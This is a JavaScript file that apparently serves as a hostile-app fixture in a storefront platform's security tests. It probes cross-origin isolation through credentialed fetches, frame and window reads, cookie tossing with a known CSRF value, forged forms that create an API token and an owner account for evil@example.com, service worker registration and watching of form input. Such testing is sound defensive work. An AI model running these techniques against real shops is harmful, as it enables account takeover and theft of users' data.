// The script of a hostile app. It stores what it gets in `window.loot`, by the name of each attempt, and sets
// `window.openForm` at the end.
(() => {
  const given = new URL(document.currentScript.src).searchParams;
  const admin = given.get("admin"), secure = given.get("secure"), base = given.get("base");
  const known = "k".repeat(32);
  const loot = (window.loot = {});
  const pause = (ms) => new Promise((done) => setTimeout(done, ms));

  const attempt = async (name, act) => {
    try {
      const late = pause(8000).then(() => "nothing in time");
      loot[name] = String(await Promise.race([act(), late]));
    } catch (error) {
      loot[name] = `refused: ${error.name}`;
    }
  };

  const read = async (url, options = {}) => {
    const answer = await fetch(url, { credentials: "include", ...options });
    return `${answer.type} ${answer.status} ${answer.url} ${answer.headers.get("location")} ${await answer.text()}`;
  };

  // Reads a window repeatedly, while somebody might be typing there.
  const watch = async (other, seconds) => {
    const seen = [];
    const end = Date.now() + seconds * 1000;
    while (Date.now() < end) {
      await pause(100);
      for (const look of [
        () => other.document.documentElement.outerHTML,
        () => [...other.document.querySelectorAll("input")].map((input) => input.value).join(),
        () => other.location.href,
        () => other.name,
      ]) {
        try { seen.push(look()); } catch (error) { seen.push(error.name); }
      }
    }
    return [...new Set(seen)].join(" ");
  };

  const post = (url, fields, target) => {
    const form = document.createElement("form");
    Object.assign(form, { method: "post", action: url, target });
    for (const [name, value] of Object.entries(fields)) {
      form.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
    }
    document.body.append(form);
    form.submit();
  };

  const frame = (url) =>
    new Promise((done) => {
      const inner = document.createElement("iframe");
      inner.src = url;
      inner.onload = () => {
        try { done(inner.contentDocument.documentElement.outerHTML); } catch (error) { done(error.name); }
      };
      document.body.append(inner);
    });

  const element = (kind, url) =>
    new Promise((done) => {
      const item = document.createElement(kind);
      item.onload = () => done("loaded");
      item.onerror = () => done("failed");
      item.src = url;
      document.body.append(item);
    });

  const secrets = [
    `${admin}/admin/shops/apitoken/add/`, `${admin}/admin/shops/staffmember/add/`, `${admin}/admin/`,
    `${secure}/account`, `${secure}/account/details`, `${secure}/checkout`, `${secure}/account/sign-in`,
    `${secure}/hand-over?state=x`, `${secure}/arrive?next=/checkout`,
  ];

  const toss = () => {
    const names = ["admin_session", "admin_csrf", "secure_session", "secure_csrf", "session", "csrf"];
    const parent = location.hostname;
    for (const name of given.get("toss") === "all" ? names : names.filter((each) => each.endsWith("csrf"))) {
      for (const prefix of ["", "__Host-", "__Secure-"]) {
        for (const path of ["/", "/admin/shops/apitoken/add/", "/admin"]) {
          for (const more of ["", "; secure"]) {
            document.cookie = `${prefix}storefront_${name}=${known}; domain=${parent}; path=${path}${more}`;
          }
        }
      }
    }
    return document.cookie;
  };

  const attack = async () => {
    // What it is allowed to do. This shows that its methods work.
    await attempt("own page", () => read("/basket"));
    await attempt("own window", async () => {
      const other = window.open("/basket");
      const seen = await watch(other, 2);
      other.close();
      return seen;
    });

    const tries = [];
    for (const url of secrets) {
      tries.push(attempt(`fetch ${url}`, () => read(url)));
      tries.push(attempt(`fetch without cors ${url}`, () => read(url, { mode: "no-cors" })));
      tries.push(attempt(`fetch by hand ${url}`, () => read(url, { redirect: "manual", mode: "no-cors" })));
    }
    for (const path of ["/admin/", "/admin/shops/apitoken/add/", "/checkout", "/account", "/account/details",
                        "/hand-over?state=x", "/arrive?next=/", "/arrive?back=/account"]) {
      tries.push(attempt(`fetch here ${path}`, () => read(base + path)));
      tries.push(attempt(`fetch here by hand ${path}`, () => read(base + path, { redirect: "manual" })));
    }
    for (const url of secrets.slice(0, 7)) {
      tries.push(attempt(`frame ${url}`, () => frame(url)));
      tries.push(attempt(`picture ${url}`, () => element("img", url)));
      tries.push(attempt(`script ${url}`, () => element("script", url)));
    }
    for (const path of ["/media/evil.js", "/static/website/product.js", "/sw.js", "/api/openapi.json"]) {
      tries.push(attempt(`service worker ${path}`, async () => (await navigator.serviceWorker.register(path)).scope));
    }
    await Promise.all(tries);
    await attempt("toss cookies", async () => toss());
    const token = { csrfmiddlewaretoken: known };
    const forms = [
      [`${admin}/admin/shops/apitoken/add/`, { name: "mine", scopes: "read_orders", ...token }],
      [`${admin}/admin/shops/staffmember/add/`, { email: "evil@example.com", role: "owner", ...token }],
      [`${admin}/admin/logout/`, token],
      [`${secure}/account/details`, { name: "Eve", phone: "", ...token }],
      [`${secure}/account/sign-out`, token],
      [`${secure}/checkout`, { email: "eve@example.com", ...token }],
    ];
    for (const [url, fields] of forms) {
      await attempt(`form ${url}`, async () => {
        const name = `form${Object.keys(loot).length}`;
        const other = window.open("about:blank", name);
        post(url, fields, name);
        const seen = await watch(other, 1);
        other.close();
        return seen;
      });
      await attempt(`form without a token ${url}`, async () => {
        const { csrfmiddlewaretoken, ...bare } = fields;
        await read(url, { method: "POST", mode: "no-cors", body: new URLSearchParams(bare) });
        return "sent";
      });
    }
    await attempt("opener", async () => window.opener.document.documentElement.outerHTML);
    await attempt("parent", async () => window.opener.location.href);
    for (const url of [`${admin}/admin/`, `${secure}/account`]) {
      await attempt(`window ${url}`, async () => {
        const other = window.open(url);
        const seen = await watch(other, 3);
        other.close();
        return seen;
      });
    }
    // The test opens the form, and types into it while the script reads.
    window.watched = [];
    window.openedForms = 0;
    window.openForm = () => {
      window.openedForms += 1;
      watch(window.open(`${secure}/account/details`), 12).then((seen) => window.watched.push(seen));
    };
  };
  // Run once, not on each page of the shop that it opens.
  if (location.pathname === given.get("on")) addEventListener("load", () => attack());
})();
